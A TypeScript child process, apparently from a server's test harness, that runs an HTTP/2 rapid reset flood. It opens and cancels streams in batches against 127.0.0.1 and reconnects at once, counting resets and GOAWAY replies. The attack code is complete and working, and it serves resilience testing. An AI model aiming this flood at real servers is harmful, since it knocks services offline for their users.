import { readFileSync } from 'node:fs';
import tls from 'node:tls';
import { frame, frameTypes, http2Preface } from '../../bench/http2/frames.js';

/** Child process: opens and resets streams as fast as possible, and reconnects at once (HTTP/2 rapid reset). */
export interface ResetTask {
  readonly ports: readonly number[];
  readonly caFile: string;
  readonly certFile: string;
  readonly keyFile: string;
  readonly connections: number;
  readonly seconds: number;
  /** The minimum number, which may prolong the run. Default: 0. */
  readonly resetsMin?: number;
  readonly path: string;
}

export interface ResetReport {
  readonly resets: number;
  /** GOAWAY frames with an error. */
  readonly sentAway: number;
  readonly closed: number;
}

const streamsEach = 50;
const streamIdsMax = 2 ** 31 - 1;
const cancel = Buffer.of(0, 0, 0, 8);

const task = JSON.parse(process.argv[2] ?? '{}') as ResetTask;
const [ca, cert, key] = [task.caFile, task.certFile, task.keyFile].map((file) => readFileSync(file)) as [Buffer, Buffer, Buffer];
/** RFC 7541: GET and https are indexed, the authority and the path are literal. */
const path = Buffer.from(task.path);
const block = Buffer.concat([Buffer.of(0x82, 0x87, 0x01, 1), Buffer.from('x'), Buffer.of(0x04, path.length), path]);
const endsAt = performance.now() + task.seconds * 1000;
const furtherMs = 500;
let [resets, sentAway, closed] = [0, 0, 0];
const isOver = (): boolean => performance.now() >= endsAt && resets >= (task.resetsMin ?? 0);

/** One connection, until the server ends it or the time is over. */
function attack(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: '127.0.0.1', port, ca, cert, key, ALPNProtocols: ['h2'], servername: 'localhost' });
    let stream = 1;
    const more = (): void => {
      for (;;) {
        if (isOver() || stream > streamIdsMax - 2 * streamsEach) {
          socket.destroy();
          return;
        }
        const frames: Buffer[] = [];
        for (let each = 0; each < streamsEach; each += 1, stream += 2)
          frames.push(frame(frameTypes.headers, 5, stream, block), frame(frameTypes.reset, 0, stream, cancel));
        resets += streamsEach;
        if (!socket.write(Buffer.concat(frames))) return;
      }
    };
    socket
      .on('error', () => undefined)
      .on('drain', more)
      .once('close', () => {
        resolve();
      });
    let rest: Buffer = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      const bytes = Buffer.concat([rest, chunk]);
      const { away, end: parsed } = framesIn(bytes);
      rest = bytes.subarray(parsed);
      if (!away) return;
      sentAway += 1;
      socket.destroy();
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([http2Preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]));
      more();
    });
    setTimeout(
      () => {
        socket.destroy();
      },
      Math.max(furtherMs, endsAt - performance.now()),
    ).unref();
  });
}

/** Whether complete frames contain a GOAWAY, and where they end. */
function framesIn(bytes: Buffer): { readonly away: boolean; readonly end: number } {
  let [away, at] = [false, 0];
  while (at + 9 <= bytes.length && at + 9 + bytes.readUIntBE(at, 3) <= bytes.length) {
    away ||= bytes[at + 3] === frameTypes.goaway;
    at += 9 + bytes.readUIntBE(at, 3);
  }
  return { away, end: at };
}

process.send?.('open');
await Promise.all(
  Array.from({ length: task.connections }, async (_, each) => {
    while (!isOver()) {
      await attack(task.ports[each % task.ports.length] as number);
      if (performance.now() < endsAt) closed += 1;
    }
  }),
);
process.send?.('offered');
const report: ResetReport = { resets, sentAway, closed };
process.send?.(report, () => process.exit(0));
